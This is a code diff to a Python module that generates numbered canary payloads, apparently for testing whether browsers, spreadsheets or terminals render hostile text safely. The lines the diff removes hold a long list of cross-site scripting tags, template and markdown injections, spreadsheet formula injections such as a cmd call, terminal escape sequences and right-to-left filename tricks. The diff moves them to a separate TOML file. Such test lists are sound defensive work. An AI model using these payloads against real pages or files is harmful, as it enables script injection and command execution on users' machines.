@@ -1,87 +1,14 @@
 """Attackers' texts: every way we know to make a reader's browser, spreadsheet or terminal do something."""
 
+import tomllib
 from collections.abc import Iterator
+from pathlib import Path
 
-# {u} is a loopback address with the payload's own number; {n} that number.
-MARKUP = (
-    "<script>fetch('{u}')</script>",
-    "<script src={u}></script>",
-    "<img src={u}>",
-    "<img src=x onerror=fetch('{u}')>",
-    "<svg onload=fetch('{u}')>",
-    "<svg><image href={u} /></svg>",
-    "<svg><use href={u}#x /></svg>",
-    "<iframe src={u}></iframe>",
-    "<iframe srcdoc='<img src={u}>'></iframe>",
-    "<object data={u}></object>",
-    "<embed src={u}>",
-    "<video src={u} autoplay></video>",
-    "<audio src={u} autoplay></audio>",
-    "<link rel=stylesheet href={u}>",
-    "<link rel=prefetch href={u}>",
-    "<style>@import '{u}';</style>",
-    "<style>body{{background:url({u})}}</style>",
-    "<div style=background:url({u})>x</div>",
-    "<meta http-equiv=refresh content='0;url={u}'>",
-    "<base href={u}>",
-    "<form action={u}><input autofocus onfocus=submit()></form>",
-    "<input autofocus onfocus=fetch('{u}')>",
-    "<details open ontoggle=fetch('{u}')>",
-    "<body onload=fetch('{u}')>",
-    "<marquee onstart=fetch('{u}')>",
-    "<a href=javascript:fetch('{u}') id=click>x</a>",
-    "<math><mi xlink:href={u}>x</mi></math>",
-    "<template><img src={u}></template>",
-    "<noscript><img src={u}></noscript>",
-    "<table background={u}><tr><td>x</table>",
-    "</script><script>fetch('{u}')</script>",
-    "</style><img src={u}>",
-    "</title><img src={u}>",
-    "</textarea><img src={u}>",
-    "</pre></div></td></table><img src={u}>",
-    "--><img src={u}><!--",
-    "]]><img src={u}>",
-    '"><img src={u}>',
-    "'><img src={u}>",
-    "\" onmouseover=fetch('{u}') x=\"",
-    "' autofocus onfocus=fetch('{u}') x='",
-    "&lt;img src={u}&gt;",
-    "&#60;img src={u}&#62;",
-    "<IMG SRC={u}>",
-    "<im\tg src={u}>",
-    "<scr<script>ipt>fetch('{u}')</scr</script>ipt>",
-)
-OTHER = (
-    "![x]({u})",
-    "[x](javascript:fetch('{u}'))",
-    "<{u}>",
-    "[x]: {u}\n![x]",
-    "# heading {n}",
-    "```\n<img src={u}>\n```",
-    "$\\frac{{{n}$",
-    "$\\href{{{u}}}{{x}}$",
-    "\\(\\require{{html}}\\href{{{u}}}{{x}}\\)",
-    "{{{{ {n} * {n} }}}}",
-    "{{% import os %}}{n}",
-    "${{{n}*{n}}}",
-    '=HYPERLINK("{u}")',
-    "=cmd|' /C calc {n}'!A0",
-    '+WEBSERVICE("{u}")',
-    "-2+3+cmd|' /C calc {n}'!A0",
-    "@SUM({n})",
-    "\t=1+{n}",
-    "\x1b[2J\x1b[31m{n}",
-    "\x1b]8;;{u}\x1b\\x\x1b]8;;\x1b\\",
-    "\x9b31m{n}",
-    "\x07\x08\x0c{n}",
-    "\u202e{n}gpj.exe",
-    "\u2066{n}\u2069\u200b\ufeff",
-    "\x00{n}",
-    "\u2028{n}\u2029",
-)
+_SHAPES = tomllib.loads(Path(__file__).with_suffix(".toml").read_text("utf-8"))
+MARKUP, OTHER = tuple(_SHAPES["markup"]), tuple(_SHAPES["other"])
 
 
 def payloads(base: str, start: int, only: tuple[str, ...] = MARKUP + OTHER) -> Iterator[str]:
     """One text for each shape, each with its own number from `start` in its address under `base`."""
     for number, shape in enumerate(only, start):
-        yield shape.format(u=f"{base}/{number}", n=number)
+        yield shape.replace("«u»", f"{base}/{number}").replace("«n»", str(number))
